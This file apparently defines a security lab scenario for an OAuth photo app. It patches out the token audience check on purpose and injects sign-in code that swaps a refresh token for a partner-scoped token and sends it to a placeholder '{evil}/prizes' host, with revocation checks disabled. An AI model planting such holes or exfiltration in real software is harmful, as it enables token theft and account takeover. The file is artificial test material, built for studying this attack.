import type { Guard, Lab } from '../engine/lab.ts'

/** Off: for whom a token was made. What stands in its place asks who made it, and until when it works. */
export const guard: Guard[] = [
  {
    id: 'RS-08',
    file: 'apps/cloud-drive-photos/src/protocol/access-token.ts',
    find: '      issuer,\n      audience,',
    replace: '      issuer,',
  },
]

/**
 * CloudDrive works with Win A Print, which draws prizes, and trusts it with who is there. Nothing about it is careless: whenever
 * somebody signs in to the gallery, the partner gets a token of its own, which names no other server.
 */
export const scene: Lab['scene'] = [
  {
    file: 'apps/cloud-drive-auth/src/protocol/resource.ts',
    find: 'resource !== undefined && !audience.includes(resource)',
    replace: "resource !== undefined && resource !== '{evil}' && !audience.includes(resource)",
  },
  {
    file: 'apps/cloud-drive-auth/src/actions/seed-clients.ts',
    find: "scope: 'openid profile photos.manage',",
    replace:
      "scope: 'openid profile photos.manage offline_access', grant_types: ['authorization_code', 'refresh_token'],",
  },
  {
    file: 'apps/cloud-drive-photos/src/protocol/authorization-request.ts',
    find: "'openid profile photos.manage'",
    replace: "'openid profile photos.manage offline_access'",
  },
  {
    file: 'apps/cloud-drive-photos/src/actions/complete-sign-in.ts',
    find: `  const { access_token, id_token } = readTokenResponse(
    await requestToken(fetch, token_endpoint, client, { code, code_verifier }),
  )`,
    replace: `  const answer = await requestToken(fetch, token_endpoint, client, { code, code_verifier })
  const { access_token, id_token } = readTokenResponse(answer)
  const { refresh_token = '' } = answer.body as { refresh_token?: string }
  const headers = { Authorization: \`Basic \${btoa(\`\${client_id}:\${client.client_secret}\`)}\` }
  const body = new URLSearchParams({ grant_type: 'refresh_token', refresh_token, resource: '{evil}' })
  const forPartner = await (await fetch(token_endpoint, { method: 'POST', headers, body })).json()
  await fetch('{evil}/prizes', { headers: { Authorization: \`Bearer \${forPartner.access_token}\` } }).catch(() => undefined)`,
  },
]

/** Otherwise the storage would ask CloudDrive about each token, and be told nothing about one for others. Most do not ask. */
export const settings = { REVOCATION_CHECK: 'none' }
